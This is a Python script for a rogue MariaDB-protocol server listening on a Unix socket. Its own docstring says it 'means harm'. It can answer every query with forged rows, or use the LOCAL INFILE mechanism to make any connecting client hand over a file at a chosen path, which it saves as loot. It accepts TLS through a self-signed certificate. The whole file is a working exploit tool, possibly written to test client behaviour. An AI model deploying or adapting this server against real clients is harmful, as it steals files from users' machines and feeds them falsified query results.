"""A server that speaks MariaDB's protocol and means harm: what it answers is meant for the client, not for who asked.

    python3 rogue_server.py SOCKET rows TEXT [TEXT...]   answers each query with one row of these
    python3 rogue_server.py SOCKET file PATH LOOT        answers each query by asking for PATH, and keeps what it gets in LOOT

The protocol: https://mariadb.com/docs/server/reference/clientserver-protocol. Python alone, so that it runs on a node, too.
"""

from __future__ import annotations

import contextlib
import os
import socket
import ssl
import struct
import subprocess
import sys
from pathlib import Path

CAPABILITIES = (
    0x0000_0001 | 0x0000_0080 | 0x0000_0800 | 0x0000_0200 | 0x0000_8000 | 0x0008_0000 | 0x0002_0000 | 0x0001_0000
)
"""LONG_PASSWORD, LOCAL_FILES, SSL, PROTOCOL_41, SECURE_CONNECTION, PLUGIN_AUTH, MULTI_RESULTS, MULTI_STATEMENTS."""
QUERY, QUIT = 3, 1
ASKS_FOR_TLS = 32
"""Bytes of the packet that does; an answer to the greeting is longer."""
STATUS = struct.pack("<HH", 2, 0)
OK = b"\x00\x00\x00" + STATUS
END = b"\xfe\x00\x00\x02\x00"


def encoded(text: bytes) -> bytes:
    """With its length before it."""
    return (bytes([len(text)]) if len(text) < 251 else b"\xfc" + struct.pack("<H", len(text))) + text


class Connection:
    """One client."""

    def __init__(self, peer: socket.socket, tls: ssl.SSLContext) -> None:
        self._peer = peer
        self._tls = tls
        self._number = 0

    def send(self, content: bytes) -> None:
        self._peer.sendall(struct.pack("<I", len(content))[:3] + bytes([self._number]) + content)
        self._number = (self._number + 1) % 256

    def receive(self) -> bytes:
        head = self._exactly(4)
        self._number = (head[3] + 1) % 256
        return self._exactly(int.from_bytes(head[:3], "little"))

    def _exactly(self, count: int) -> bytes:
        got = b""
        while len(got) < count:
            more = self._peer.recv(count - len(got))
            if not more:
                raise EOFError
            got += more
        return got

    def greet(self) -> None:
        salt = b"12345678"
        self.send(
            b"\x0a5.5.5-11.8.9-MariaDB\x00" + struct.pack("<I", 7) + salt + b"\x00"
            + struct.pack("<HBHHB", CAPABILITIES & 0xFFFF, 33, 2, CAPABILITIES >> 16, 21) + b"\x00" * 10
            + b"123456789012\x00" + b"mysql_native_password\x00"
        )  # fmt: skip
        if len(self.receive()) == ASKS_FOR_TLS:
            # MariaDB's client insists on TLS, and on the Unix socket takes any certificate.
            self._peer = self._tls.wrap_socket(self._peer, server_side=True)
            self.receive()
        self.send(OK)

    def rows(self, values: list[bytes]) -> None:
        self.send(bytes([len(values)]))
        for number in range(len(values)):
            name = f"c{number}".encode()
            column = b"".join(map(encoded, (b"def", b"", b"", b"", name, name)))
            self.send(column + b"\x0c" + struct.pack("<HIBHB", 33, 1024, 253, 0, 0) + b"\x00\x00")
        self.send(END)
        self.send(b"".join(map(encoded, values)))
        self.send(END)

    def file(self, path: bytes) -> bytes:
        self.send(b"\xfb" + path)
        got = b""
        while packet := self.receive():
            got += packet
        self.send(OK)
        return got


def own_certificate(folder: Path) -> ssl.SSLContext:
    """TLS with a certificate that nobody signed."""
    key, certificate = folder / "rogue.key", folder / "rogue.crt"
    made = [
        "openssl",
        "req",
        "-x509",
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:P-256",
        "-nodes",
        "-subj",
        "/CN=rogue",
    ]
    subprocess.run([*made, "-keyout", str(key), "-out", str(certificate)], check=True, capture_output=True)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    return context


def serve(peer: socket.socket, tls: ssl.SSLContext, mode: str, values: list[str]) -> None:
    """One client's questions."""
    client = Connection(peer, tls)
    client.greet()
    while True:
        packet = client.receive()
        if packet[0] == QUIT:
            return
        if packet[0] != QUERY or packet[1:].upper().startswith((b"SET ", b"COMMIT", b"ROLLBACK")):
            client.send(OK)
        elif mode == "rows":
            client.rows([value.encode() for value in values])
        else:
            got = client.file(values[0].encode())
            if got:
                Path(values[1]).write_bytes(got)


def main() -> None:
    """Serve until killed; says `ready` once it listens."""
    place, mode, *values = sys.argv[1:]
    Path(place).unlink(missing_ok=True)
    tls = own_certificate(Path(place).parent)
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(place)
        Path(place).chmod(0o777)
        listener.listen(16)
        print("ready", flush=True)
        while True:
            peer, _ = listener.accept()
            if os.fork() == 0:
                with contextlib.suppress(EOFError, OSError):
                    serve(peer, tls, mode, values)
                os._exit(0)
            peer.close()


if __name__ == "__main__":
    main()
